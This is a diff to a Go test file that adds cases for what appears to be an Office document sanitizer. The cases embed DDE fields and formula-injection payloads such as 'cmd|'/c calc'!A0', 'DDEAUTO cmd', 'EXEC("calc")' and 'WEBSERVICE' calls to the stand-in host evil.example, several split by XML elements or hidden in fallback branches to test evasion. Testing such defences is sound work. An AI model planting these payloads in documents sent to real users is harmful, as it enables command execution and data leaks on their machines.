@@ -184,6 +184,32 @@ func TestBrokenRebuilders(t *testing.T) {
 		{"script in VML", "a.xlsx", codeMarkup, vml(`<script>x</script>`)},
 		{"handler in VML", "a.xlsx", codeActive, vml(`<v:shape><v:textbox><div onclick="x()"/></v:textbox></v:shape>`)},
 
+		{"instruction with an element inside", "a.docx", codeMarkup, body(wordField(` PAGE <w:r/> `))},
+		{"DDE field whose instruction an element cuts", "a.docx", codeMarkup, body(wordField(`DD<w:r/>EAUTO cmd`))},
+		{"DDE field with the name in an element of the instruction", "a.docx", codeMarkup, body(wordField(`<w:r>DDEAUTO</w:r> cmd`))},
+		{"DDE field with text that an element cuts", "a.docx", codeMarkup, body(wordField(`</w:instrText></w:r><w:r><w:t><w:r>DDE</w:r>AUTO cmd</w:t></w:r><w:r><w:instrText>`))},
+		{"deleted instruction with an element inside", "a.docx", codeMarkup, body(`<w:r><w:delInstrText> PAGE <w:r/></w:delInstrText></w:r>`)},
+		{"DDE field for readers of the fallback", "a.docx", codeActive, body(wordField(`</w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:instrText> PAGE </w:instrText></w:r></mc:Choice>` +
+			`<mc:Fallback><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`))},
+		{"DDE field as text for readers of the fallback", "a.docx", codeActive, body(wordField(`</w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:t> PAGE </w:t></w:r></mc:Choice>` +
+			`<mc:Fallback><w:r><w:t>DDEAUTO cmd</w:t></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`))},
+		{"field that ends for some readers only", "a.docx", codeActive, body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="end"/></w:r></mc:Choice></mc:AlternateContent>`)},
+		{"field that begins for some readers only", "a.docx", codeActive, body(`<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="begin"/></w:r></mc:Choice></mc:AlternateContent><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)},
+
+		{"DDE formula that an element cuts", "a.xlsx", codeMarkup, formula(`cmd|<v/>'/c calc'!A0`)},
+		{"formula that calls the web and that an element cuts", "a.xlsx", codeMarkup, formula(`WEBSERVICE(<v/>"http://evil.example/")`)},
+		{"formula inside an element of a formula", "a.xlsx", codeMarkup, formula(`<v>cmd|'/c calc'!A0</v>`)},
+		{"formula with a harmless formula inside", "a.xlsx", codeMarkup, formula(`cmd|'/c calc'!A0<f>1</f>`)},
+		{"name that an element cuts", "a.xlsx", codeMarkup, xlsx(t).replace("xl/workbook.xml", "表!$A$1", `EXEC(<sheets/>"calc")`).zip()},
+		{"formula of a drawing that an element cuts", "a.xlsx", codeMarkup, vml(`<v:shape><x:ClientData ObjectType="List"><x:FmlaRange>cmd|<x:Row/>'/c calc'!A0</x:FmlaRange></x:ClientData></v:shape>`)},
+		{"formula of a sort that nobody knows", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<n:f xmlns:n="http://schemas.microsoft.com/office/spreadsheetml/2014/11/main">cmd|'/c calc'!A0</n:f><sheetData>`).zip()},
+		{"threshold that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},
+		{"pivot field that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cacheField formula="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},
+
+		{"object, whatever is in it", "a.docx", codeActive, body(`<w:object/>`)},
+		{"frame that loads another file", "a.docx", codeActive, body(`<w:frame/>`)},
+		{"name of a file that a frame loads", "a.docx", codeActive, body(`<w:sourceFileName r:id=""/>`)},
+		{"link to a file of the mail merge", "a.docx", codeActive, body(`<w:headerSource r:id=""/>`)},
 		{"DDE formula", "a.xlsx", codeActive, formula(`cmd|'/c calc'!A0`)},
 		{"formula into another workbook", "a.xlsx", codeLink, formula(`[1]Sheet1!A1`)},
 		{"formula into a file", "a.xlsx", codeLink, formula(`'C:\[b.xlsx]S'!A1`)},
